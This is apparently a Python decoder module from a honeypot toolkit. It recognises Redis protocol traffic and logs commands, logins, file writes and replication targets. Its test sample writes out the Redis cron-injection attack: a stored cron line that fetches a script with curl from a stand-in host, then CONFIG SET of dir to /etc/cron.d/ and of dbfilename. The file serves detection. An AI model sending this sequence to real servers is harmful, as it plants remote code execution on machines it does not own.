"""Redis: commands in RESP or typed by hand, logins, and what is written to a disk through them."""

import re

from honeyguide.schema.words import Words
from honeyguide.streams.conversation import Conversation, Turn
from honeyguide.streams.embedded import urls
from honeyguide.streams.protocol import Decoded, Protocol, Sample
from honeyguide.streams.reader import Reader, Stop, plain, quoted
from honeyguide.streams.walk import Told, decoded

_ARRAY = re.compile(rb"\*\d{1,6}\r\n\$\d{1,9}\r\n")
_INLINE = re.compile(
    rb"(?i)(?:PING|INFO(?: \w+)?|AUTH \S+(?: \S+)?|CONFIG (?:GET|SET|RESETSTAT|REWRITE)[ \S]*|FLUSHALL|FLUSHDB|DBSIZE|KEYS \S+|COMMAND"
    rb"|SLAVEOF \S+ \S+|REPLICAOF \S+ \S+|MODULE (?:LOAD|LIST)[ \S]*|CLIENT LIST|EVAL \S+.*|SAVE|BGSAVE|SET \S+ [^\r\n]+|HELLO [23].*"
    rb"|ECHO \S+|SELECT \d+|NONEXISTENT)\r?\n"
)
_SURE = re.compile(rb"(?i)(?:CONFIG|SLAVEOF|REPLICAOF|FLUSHALL|FLUSHDB|DBSIZE|MODULE|KEYS|AUTH|EVAL|INFO)\b")
_ANSWER = re.compile(rb"(?:\+PONG|\+OK|-ERR |-NOAUTH|-WRONGPASS|-DENIED|\$\d+\r\n|\*\d+\r\n|:\d+\r\n)")
_PORT = 6379
_ITEMS = 1000


def sniff(conversation: Conversation) -> float:
    """An array of bulk strings, or a command typed by hand, surer on Redis' port or with an answer of its kind."""
    head = conversation.inbound[:600]
    if _ARRAY.match(head):
        return 0.98
    if not head:
        return 0.6 if conversation.outbound.startswith((b"-NOAUTH", b"-DENIED Redis")) else 0.0
    if not _INLINE.match(head):
        return 0.0
    if conversation.local_port == _PORT or _ANSWER.match(conversation.outbound):
        return 0.95
    return 0.8 if _SURE.match(head) else 0.55


def decode(conversation: Conversation) -> Decoded:
    """Commands with their arguments; logins; files that CONFIG would make the server write."""
    return decoded("redis", conversation, _message, "Redis")


def _message(reader: Reader, told: Told) -> str:
    if reader.direction == "out":
        return _answer(reader)
    if reader.peek(1) == b"*":
        count_text = reader.line("array")[1:]
        if not count_text.isascii() or not count_text.isdigit() or int(count_text) > _ITEMS:
            raise Stop(f"an array of '{quoted(count_text, 20)}' items")
        words = [_bulk(reader, f"argument {index}") for index in range(int(count_text))]
    else:
        line = reader.line("inline command").strip()
        if not line:
            return "empty line"
        words = line.split(" ", 200)
    return _command(words, told)


def _bulk(reader: Reader, name: str) -> str:
    start = reader.at
    if reader.peek(1) != b"$":
        raise Stop(f"{name} begins with {quoted(reader.peek(1))!r} instead of $")
    end = reader.data.find(b"\n", reader.at, reader.at + 16)
    size = reader.data[reader.at + 1 : max(end, 0)].strip()
    if end < 0 or not size.isdigit() or len(size) > 9:
        raise Stop(f"{name} has no length")
    reader.take(end + 1 - reader.at)
    data = reader.take(int(size), name)
    reader.note(name, quoted(data), start, reader.at)
    if reader.peek(2) == b"\r\n":
        reader.take(2)
    return plain(data)


def _command(words: list[str], told: Told) -> str:
    if not words:
        return "empty array"
    verb = words[0].upper()
    line = " ".join([verb, *words[1:]])
    told.operations.append(" ".join([verb, words[1].upper()]) if verb in ("CONFIG", "MODULE", "CLIENT") and len(words) > 1 else verb)
    told.commands.append(line)
    told.point(quoted(line, 70))
    if verb == "AUTH" and len(words) > 1:
        told.login(words[1] if len(words) > 2 else "default", words[-1])
    elif verb == "CONFIG" and len(words) > 3 and words[1].upper() == "SET":
        told.state[words[2].lower()] = words[3]
        if words[2].lower() == "dbfilename":
            folder = told.state.get("dir", "")
            told.files.append(f"{folder.rstrip('/')}/{words[3]}" if folder else words[3])
    elif verb == "MODULE" and len(words) > 2:
        told.files.append(words[2])
    elif verb in ("SLAVEOF", "REPLICAOF") and len(words) > 2:
        told.objects.append(f"{words[1]}:{words[2]}")
    told.urls += urls(line.encode())
    return quoted(line)


def _answer(reader: Reader) -> str:
    line = reader.line("answer")
    if line[:1] == "$" and line[1:].isdigit() and len(line) < 12:
        size = min(int(line[1:]), reader.left)
        reader.raw("value", size)
        if reader.peek(2) == b"\r\n":
            reader.take(2)
        return f"value of {size} bytes"
    return quoted(line) or "empty line"


def _array(*words: bytes) -> bytes:
    return b"*%d\r\n" % len(words) + b"".join(b"$%d\r\n%s\r\n" % (len(word), word) for word in words)


_CRON = _array(b"set", b"x", b"\n* * * * * root curl http://192.0.2.7/a.sh\n") + _array(b"config", b"set", b"dir", b"/etc/cron.d/")

PROTOCOL = Protocol(
    name="redis",
    title=Words("Redis", "Redis"),
    sniff=sniff,
    decode=decode,
    samples=(
        Sample(
            Conversation((Turn("in", _CRON + _array(b"config", b"set", b"dbfilename", b"job")), Turn("out", b"+OK\r\n+OK\r\n+OK\r\n"))),
            "CONFIG set dir /etc/cron.d/, CONFIG set dbfilename job",
            {"honeypot.operation": ["SET", "CONFIG SET"]},
        ),
        Sample(Conversation((Turn("in", b"AUTH hunter2\r\nINFO\r\n"), Turn("out", b"-ERR no\r\n"))), "AUTH hunter2, INFO"),
    ),
    ports=(_PORT,),
    source="https://redis.io/docs/latest/develop/reference/protocol-spec/",
)
